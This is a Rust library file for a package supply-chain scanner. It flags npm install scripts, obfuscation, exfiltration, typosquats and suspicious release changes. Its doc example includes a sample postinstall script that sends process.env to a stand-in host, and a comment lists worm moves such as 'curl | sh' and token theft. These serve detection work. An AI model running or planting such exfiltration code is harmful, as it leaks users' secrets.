//! Package-level supply-chain analysis for tarsier, as a pure library (no I/O, no network).
//!
//! The engine looks at code one file at a time; this crate looks at a *package*: its
//! `package.json`, its file list and the bytes of its files, and optionally the previous
//! published version of the same package. It reports [`Finding`]s whose `rule_id`s are the rules
//! of the `supply-chain` pack (`rules/supply-chain/*.toml`, see [`rule_ids`]):
//!
//! - install-time scripts, escalated when the script or the file it runs touches the network,
//!   the environment, the home directory, credential files or child processes ([`install`]);
//! - obfuscated code: `_0x` identifier tables, dense escapes, packers, long high-entropy strings,
//!   one huge line that is not ordinary minified output ([`obfuscation`]);
//! - exfiltration: secrets or host facts read in the same file that sends data out ([`exfil`]);
//! - `require`/`import` of computed or decoded module names ([`dynamic`]);
//! - bundled executables or archives without a declared native build ([`native`]);
//! - names within a small edit distance of an in-scope package ([`typosquat()`]);
//! - what changed since the previous version: install scripts, dependencies, new files, entry
//!   points, unpacked size ([`diff`]);
//! - registry signals, from facts `tarsier-registry` establishes: invalid or missing signatures,
//!   provenance dropped, a new publisher, changed maintainers ([`registry`]).
//!
//! Work per file is bounded: files larger than [`Options::max_file_bytes`] are not read and
//! become a [`Notification`] instead of silence. Output is sorted and deterministic.
//!
//! ```
//! use tarsier_supply::{analyze, rule_ids, Options, PackageInput};
//!
//! let manifest = br#"{"name": "left-padder", "version": "1.0.1",
//!   "scripts": {"postinstall": "node setup.js"}}"#;
//! let setup = b"const https = require('https');\n\
//!   https.request({ host: 'collector.invalid', path: '/' + JSON.stringify(process.env) });\n";
//! let files: Vec<(&str, &[u8])> = vec![("package.json", manifest), ("setup.js", setup)];
//! let package = PackageInput::from_files("left-padder", "1.0.1", &files).unwrap();
//! let report = analyze(&package, None, &Options::default());
//! let ids: Vec<&str> = report.findings.iter().map(|f| f.rule_id.as_str()).collect();
//! assert!(ids.contains(&rule_ids::INSTALL_SCRIPT));
//! assert!(ids.contains(&rule_ids::EXFILTRATION));
//! ```
#![forbid(unsafe_code)]
#![deny(missing_docs)]

pub mod caps;
pub mod deobfuscate;
pub mod diff;
pub mod dynamic;
pub mod exfil;
pub mod install;
pub mod memo;
pub mod moves;
pub mod native;
pub mod obfuscation;
pub mod registry;
pub mod selftest;
mod text;
pub mod typosquat;
pub mod verdict;

pub use registry::{RegistrySignals, SignatureCheck, registry_findings};
pub use selftest::{CaseOutcome, case_findings, self_test};
pub use typosquat::typosquat;

use serde_json::Value;
use tarsier_model::{Finding, Notification, NotificationLevel, PackageOrigin, Severity, Span};

/// The ids of the rules this crate reports, as in `rules/supply-chain/`.
pub mod rule_ids {
    /// An install-time script (`preinstall`, `install`, `postinstall`, `prepare`).
    pub const INSTALL_SCRIPT: &str = "supply-chain/install-script";
    /// Obfuscated code.
    pub const OBFUSCATED_CODE: &str = "supply-chain/obfuscated-code";
    /// Secrets or host facts read and data sent out in the same file.
    pub const EXFILTRATION: &str = "supply-chain/exfiltration";
    /// `require`/`import` of a computed or decoded module name.
    pub const DYNAMIC_REQUIRE: &str = "supply-chain/dynamic-require";
    /// A bundled executable or archive without a declared native build.
    pub const NATIVE_BINARY: &str = "supply-chain/native-binary";
    /// A package name close to an in-scope one.
    pub const TYPOSQUAT: &str = "supply-chain/typosquat";
    /// An install script new or changed since the previous version.
    pub const RELEASE_INSTALL_SCRIPT: &str = "supply-chain/release-install-script";
    /// A dependency new since the previous version.
    pub const RELEASE_NEW_DEPENDENCY: &str = "supply-chain/release-new-dependency";
    /// A file new since the previous version.
    pub const RELEASE_NEW_FILE: &str = "supply-chain/release-new-file";
    /// `main`, `exports` or `bin` changed since the previous version.
    pub const RELEASE_ENTRY_POINT: &str = "supply-chain/release-entry-point";
    /// A large jump of the unpacked size since the previous version.
    pub const RELEASE_SIZE_JUMP: &str = "supply-chain/release-size-jump";
    /// A registry signature that is invalid, missing or by an unknown key.
    pub const REGISTRY_SIGNATURE: &str = "supply-chain/registry-signature";
    /// A version without provenance after versions with it.
    pub const PROVENANCE_DROPPED: &str = "supply-chain/provenance-dropped";
    /// A version published by an account that never published the package before.
    pub const NEW_PUBLISHER: &str = "supply-chain/new-publisher";
    /// Maintainers added or removed since the previous version.
    pub const MAINTAINERS_CHANGED: &str = "supply-chain/maintainers-changed";
    /// A move of the 2025 npm worms (secret scanners, `gh auth token`, AI CLIs without
    /// permission checks, `npm publish` from code, persistence writes, `curl | sh`, deleting home).
    pub const WORM_MOVE: &str = "supply-chain/worm-move";
    /// What a changed file added since the previous version: obfuscated code, new capabilities,
    /// global API hooks, wallet addresses.
    pub const RELEASE_CHANGED_CODE: &str = "supply-chain/release-changed-code";
    /// One verdict per package version: why it looks compromised, with a score.
    pub const VERDICT: &str = tarsier_model::VERDICT_RULE;

    /// Every rule id above, in order.
    pub const ALL: &[&str] = &[
        INSTALL_SCRIPT,
        OBFUSCATED_CODE,
        EXFILTRATION,
        DYNAMIC_REQUIRE,
        NATIVE_BINARY,
        TYPOSQUAT,
        RELEASE_INSTALL_SCRIPT,
        RELEASE_NEW_DEPENDENCY,
        RELEASE_NEW_FILE,
        RELEASE_ENTRY_POINT,
        RELEASE_SIZE_JUMP,
        REGISTRY_SIGNATURE,
        PROVENANCE_DROPPED,
        NEW_PUBLISHER,
        MAINTAINERS_CHANGED,
        WORM_MOVE,
        RELEASE_CHANGED_CODE,
        VERDICT,
    ];
}

/// The analyzer names rule files use (`analyzer = "..."`), one per rule: `supply-` and the
/// rule's name.
pub const ANALYZERS: &[&str] = &[
    "supply-install-script",
    "supply-obfuscated-code",
    "supply-exfiltration",
    "supply-dynamic-require",
    "supply-native-binary",
    "supply-typosquat",
    "supply-release-install-script",
    "supply-release-new-dependency",
    "supply-release-new-file",
    "supply-release-entry-point",
    "supply-release-size-jump",
    "supply-registry-signature",
    "supply-provenance-dropped",
    "supply-new-publisher",
    "supply-maintainers-changed",
    "supply-worm-move",
    "supply-release-changed-code",
    "supply-verdict",
];

/// Why a package could not be turned into a [`PackageInput`].
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum SupplyError {
    /// The package has no `package.json` at its root.
    #[error("{package}: the package has no package.json")]
    NoManifest {
        /// `name@version`.
        package: String,
    },
    /// `package.json` is not a JSON object.
    #[error("{package}: package.json is not a valid JSON object: {reason}")]
    BadManifest {
        /// `name@version`.
        package: String,
        /// What the JSON parser said.
        reason: String,
    },
}

/// One version of a package, as this crate analyses it.
#[derive(Debug, Clone)]
pub struct PackageInput<'a> {
    /// The package name (`@scope/name` for scoped packages).
    pub name: &'a str,
    /// The exact version.
    pub version: &'a str,
    /// `package.json` from the tarball (`Value::Null` when absent).
    pub manifest: Value,
    /// The files of the package, paths relative to the package root, `/`-separated.
    pub files: Vec<(&'a str, &'a [u8])>,
    /// The unpacked size the registry states (`dist.unpackedSize`), if known; otherwise the sum
    /// of the file sizes is used.
    pub unpacked_size: Option<u64>,
}

impl<'a> PackageInput<'a> {
    /// Builds an input from the package's files, parsing `package.json` among them.
    pub fn from_files(
        name: &'a str,
        version: &'a str,
        files: &[(&'a str, &'a [u8])],
    ) -> Result<Self, SupplyError> {
        let package = format!("{name}@{version}");
        let bytes = files
            .iter()
            .find(|(p, _)| *p == "package.json")
            .map(|(_, b)| *b)
            .ok_or_else(|| SupplyError::NoManifest {
                package: package.clone(),
            })?;
        let manifest: Value =
            serde_json::from_slice(bytes).map_err(|e| SupplyError::BadManifest {
                package: package.clone(),
                reason: e.to_string(),
            })?;
        if !manifest.is_object() {
            return Err(SupplyError::BadManifest {
                package,
                reason: "the document is not an object".to_owned(),
            });
        }
        Ok(Self {
            name,
            version,
            manifest,
            files: files.to_vec(),
            unpacked_size: None,
        })
    }

    /// The bytes of a file, by exact path.
    pub fn file(&self, path: &str) -> Option<&'a [u8]> {
        self.files.iter().find(|(p, _)| *p == path).map(|(_, b)| *b)
    }

    /// The unpacked size: [`Self::unpacked_size`] or the sum of the file sizes.
    pub fn size(&self) -> u64 {
        self.unpacked_size
            .unwrap_or_else(|| self.files.iter().map(|(_, b)| b.len() as u64).sum())
    }

    /// `name@version`.
    pub fn spec(&self) -> String {
        format!("{}@{}", self.name, self.version)
    }

    /// The manifest's string `scripts` entry, if any.
    pub fn script(&self, hook: &str) -> Option<&str> {
        self.manifest.get("scripts")?.get(hook)?.as_str()
    }
}

/// Tuning of [`analyze`].
#[derive(Debug, Clone)]
pub struct Options {
    /// Names of the in-scope packages, for the typosquat check (empty: no typosquat check).
    pub in_scope: Vec<String>,
    /// Files larger than this are not scanned (a notification says so). Default 4 MiB.
    pub max_file_bytes: usize,
    /// The unpacked size must grow by at least this factor to be a size jump. Default 2.0.
    pub size_jump_ratio: f64,
    /// ... and by at least this many bytes. Default 256 KiB.
    pub size_jump_min_bytes: u64,
    /// New files beyond this many are summarised in one finding (suspicious ones are always
    /// reported). Default 20.
    pub max_new_file_findings: usize,
    /// Capability scans of texts seen before, shared by the packages of a run (the versions
    /// of a package repeat most of their files); `None`: every text is scanned.
    pub memo: Option<std::sync::Arc<memo::ScanMemo>>,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            in_scope: Vec::new(),
            max_file_bytes: 4 * 1024 * 1024,
            size_jump_ratio: 2.0,
            size_jump_min_bytes: 256 * 1024,
            max_new_file_findings: 20,
            memo: None,
        }
    }
}

/// What [`analyze`] found.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Report {
    /// Findings, sorted by path, position and rule.
    pub findings: Vec<Finding>,
    /// Files that were not scanned, and why.
    pub notifications: Vec<Notification>,
}

/// Analyses one version of a package, and what changed since `previous` when given.
pub fn analyze(
    package: &PackageInput<'_>,
    previous: Option<&PackageInput<'_>>,
    options: &Options,
) -> Report {
    let mut ctx = Ctx::new(package, options);
    install::check(&mut ctx);
    obfuscation::check(&mut ctx);
    exfil::check(&mut ctx);
    dynamic::check(&mut ctx);
    moves::check(&mut ctx);
    native::check(&mut ctx);
    typosquat::check(&mut ctx);
    if let Some(prev) = previous {
        diff::check(&mut ctx, prev);
    }
    verdict::check(&mut ctx, previous);
    ctx.finish()
}

/// The state of one analysis: the package, its decoded text files, and the output so far.
pub(crate) struct Ctx<'p, 'a> {
    pub(crate) package: &'p PackageInput<'a>,
    pub(crate) options: &'p Options,
    /// Text of each file small enough to scan, lossily decoded, by path.
    texts: std::collections::BTreeMap<&'a str, String>,
    /// Capability hits of each scanned JavaScript file, after deobfuscation.
    hits: std::collections::BTreeMap<&'a str, Vec<caps::Hit>>,
    /// What deobfuscation resolved in each JavaScript file where it resolved something.
    decoded: std::collections::BTreeMap<&'a str, deobfuscate::Decoded>,
    manifest_text: String,
    /// Files that run at install time (set by [`install`]).
    pub(crate) install_files: std::collections::BTreeSet<String>,
    /// Files with signs of obfuscation (set by [`obfuscation`]).
    pub(crate) obfuscated: std::collections::BTreeSet<String>,
    findings: Vec<Finding>,
    notifications: Vec<Notification>,
}

impl<'p, 'a> Ctx<'p, 'a> {
    fn new(package: &'p PackageInput<'a>, options: &'p Options) -> Self {
        let mut texts = std::collections::BTreeMap::new();
        let mut notifications = Vec::new();
        let origin = origin(package);
        for &(path, bytes) in &package.files {
            if bytes.len() > options.max_file_bytes {
                if text::is_js_path(path) || path == "package.json" {
                    notifications.push(Notification {
                        level: NotificationLevel::Warning,
                        code: "file-too-large".to_owned(),
                        message: format!(
                            "{}: {path} was not scanned by the supply-chain checks: {} bytes, over the limit of {}",
                            package.spec(),
                            bytes.len(),
                            options.max_file_bytes
                        ),
                        package: Some(origin.clone()),
                        path: Some(path.to_owned()),
                    });
                }
                continue;
            }
            if text::is_js_path(path) || path == "package.json" {
                texts.insert(path, String::from_utf8_lossy(bytes).into_owned());
            }
        }
        let manifest_text = texts.get("package.json").cloned().unwrap_or_default();
        let mut hits = std::collections::BTreeMap::new();
        let mut decoded = std::collections::BTreeMap::new();
        for (&path, text) in texts.iter().filter(|(p, _)| text::is_js_path(p)) {
            let (found, resolved) = match &options.memo {
                Some(memo) => memo.scan_js_decoded(text),
                None => caps::scan_js_decoded(text),
            };
            hits.insert(path, found);
            if let Some(resolved) = resolved {
                decoded.insert(path, resolved);
            }
        }
        Self {
            package,
            options,
            texts,
            hits,
            decoded,
            manifest_text,
            install_files: std::collections::BTreeSet::new(),
            obfuscated: std::collections::BTreeSet::new(),
            findings: Vec::new(),
            notifications,
        }
    }

    /// The scanned JavaScript files and their text.
    pub(crate) fn js_files(&self) -> impl Iterator<Item = (&'a str, &str)> + '_ {
        self.texts
            .iter()
            .filter(|(p, _)| text::is_js_path(p))
            .map(|(p, t)| (*p, t.as_str()))
    }

    /// The capability hits of a scanned JavaScript file, after deobfuscation.
    pub(crate) fn hits(&self, path: &str) -> &[caps::Hit] {
        self.hits.get(path).map_or(&[], Vec::as_slice)
    }

    /// What deobfuscation resolved in a scanned JavaScript file, if anything.
    pub(crate) fn decoded(&self, path: &str) -> Option<&deobfuscate::Decoded> {
        self.decoded.get(path)
    }

    /// The findings recorded so far.
    pub(crate) fn findings(&self) -> &[Finding] {
        &self.findings
    }

    /// The text of a scanned file.
    pub(crate) fn text(&self, path: &str) -> Option<&str> {
        self.texts.get(path).map(String::as_str)
    }

    /// Records a finding at bytes `start..end` of the scanned file `path`.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn report_in(
        &mut self,
        rule_id: &str,
        severity: Severity,
        message: String,
        path: &str,
        start: usize,
        end: usize,
        matched: &str,
    ) {
        let placed = self.texts.get(path).map(|text| {
            let span = text::span_of(text, start, end);
            (span, text::snippet(text, &span))
        });
        let (span, snippet) = placed.unwrap_or_else(|| (text::file_span(), String::new()));
        self.push(rule_id, severity, message, path, span, snippet, matched);
    }

    /// Records a finding at bytes `start..end` of `path` (whose text is `text`).
    #[allow(clippy::too_many_arguments)]
    fn report_at(
        &mut self,
        rule_id: &str,
        severity: Severity,
        message: String,
        path: &str,
        text: &str,
        start: usize,
        end: usize,
        matched: &str,
    ) {
        let span = text::span_of(text, start, end);
        let snippet = text::snippet(text, &span);
        self.push(rule_id, severity, message, path, span, snippet, matched);
    }

    /// Records a finding about the package as a whole, placed at `needle` in `package.json`
    /// (the first occurrence after `after`, when given) or at line 1, column 1.
    pub(crate) fn report_manifest(
        &mut self,
        rule_id: &str,
        severity: Severity,
        message: String,
        needle: Option<(&str, Option<&str>)>,
        matched: &str,
    ) {
        let text = std::mem::take(&mut self.manifest_text);
        let place = needle.and_then(|(needle, after)| {
            let from = match after {
                Some(a) => text.find(a)? + a.len(),
                None => 0,
            };
            let at = from + text.get(from..)?.find(needle)?;
            Some((at, at + needle.len()))
        });
        match place {
            Some((start, end)) => self.report_at(
                rule_id,
                severity,
                message,
                "package.json",
                &text,
                start,
                end,
                matched,
            ),
            None => self.push(
                rule_id,
                severity,
                message,
                "package.json",
                text::file_span(),
                String::new(),
                matched,
            ),
        }
        self.manifest_text = text;
    }

    /// Records a finding about a whole file (line 1, column 1).
    pub(crate) fn report_file(
        &mut self,
        rule_id: &str,
        severity: Severity,
        message: String,
        path: &str,
        matched: &str,
    ) {
        self.push(
            rule_id,
            severity,
            message,
            path,
            text::file_span(),
            String::new(),
            matched,
        );
    }

    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        rule_id: &str,
        severity: Severity,
        message: String,
        path: &str,
        span: Span,
        snippet: String,
        matched: &str,
    ) {
        self.findings.push(Finding {
            rule_id: rule_id.to_owned(),
            severity,
            message,
            path: path.to_owned(),
            span,
            snippet,
            matched_text: text::normalise(matched),
            package: Some(origin(self.package)),
            flow: Vec::new(),
            suppression: None,
        });
    }

    fn finish(mut self) -> Report {
        self.findings.sort_by(|a, b| {
            (&a.path, a.span.start_byte, &a.rule_id, &a.message).cmp(&(
                &b.path,
                b.span.start_byte,
                &b.rule_id,
                &b.message,
            ))
        });
        self.findings.dedup();
        self.notifications.sort();
        Report {
            findings: self.findings,
            notifications: self.notifications,
        }
    }
}

fn origin(package: &PackageInput<'_>) -> PackageOrigin {
    PackageOrigin {
        name: package.name.to_owned(),
        version: package.version.to_owned(),
        tarball: None,
        integrity: None,
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn manifest_errors_name_the_package() {
        let files: Vec<(&str, &[u8])> = vec![("index.js", b"1")];
        let e = PackageInput::from_files("a", "1.0.0", &files).unwrap_err();
        assert_eq!(e.to_string(), "a@1.0.0: the package has no package.json");
        let files: Vec<(&str, &[u8])> = vec![("package.json", b"[1]")];
        let e = PackageInput::from_files("a", "1.0.0", &files).unwrap_err();
        assert!(e.to_string().contains("a@1.0.0: package.json"), "{e}");
    }

    #[test]
    fn oversized_files_become_notifications() {
        let big = vec![b'a'; 100];
        let files: Vec<(&str, &[u8])> = vec![("package.json", b"{}"), ("big.js", &big)];
        let p = PackageInput::from_files("a", "1.0.0", &files).unwrap();
        let options = Options {
            max_file_bytes: 50,
            ..Options::default()
        };
        let report = analyze(&p, None, &options);
        assert_eq!(report.notifications.len(), 1);
        assert_eq!(report.notifications[0].code, "file-too-large");
        assert!(report.notifications[0].message.contains("big.js"));
    }

    #[test]
    fn rule_ids_and_analyzers_agree() {
        assert_eq!(rule_ids::ALL.len(), ANALYZERS.len());
        for (id, analyzer) in rule_ids::ALL.iter().zip(ANALYZERS) {
            assert_eq!(
                id.strip_prefix("supply-chain/"),
                analyzer.strip_prefix("supply-")
            );
        }
    }
}
